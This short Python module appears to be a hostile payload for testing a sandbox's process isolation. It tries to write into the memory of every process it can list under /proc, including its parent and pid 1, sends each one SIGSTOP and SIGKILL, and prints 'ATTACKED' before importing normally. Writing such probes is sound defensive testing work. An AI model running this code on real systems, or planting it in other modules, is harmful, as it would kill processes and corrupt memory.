# Signals every process it can name (its parent, the jail's init, pid 1, whatever /proc lists) and tries to write
# into their memory; prints "ATTACKED" with the processes it reached. Then imports normally.
import os as _os
import signal as _signal

_reached = []
for _pid in sorted({_os.getppid(), 1, *map(int, filter(str.isdigit, _os.listdir("/proc")))} - {_os.getpid()}):
    try:
        with open(f"/proc/{_pid}/mem", "r+b", buffering=0) as _f:
            _f.seek(0x400000)
            _f.write(b"\0")
        _reached.append(("mem", _pid))
    except (OSError, ValueError, OverflowError):
        pass
    for _sig in (_signal.SIGSTOP, _signal.SIGKILL):
        try:
            _os.kill(_pid, _sig)
            _reached.append((_sig.name, _pid))
        except OSError:
            pass
print("ATTACKED", _reached, flush=True)
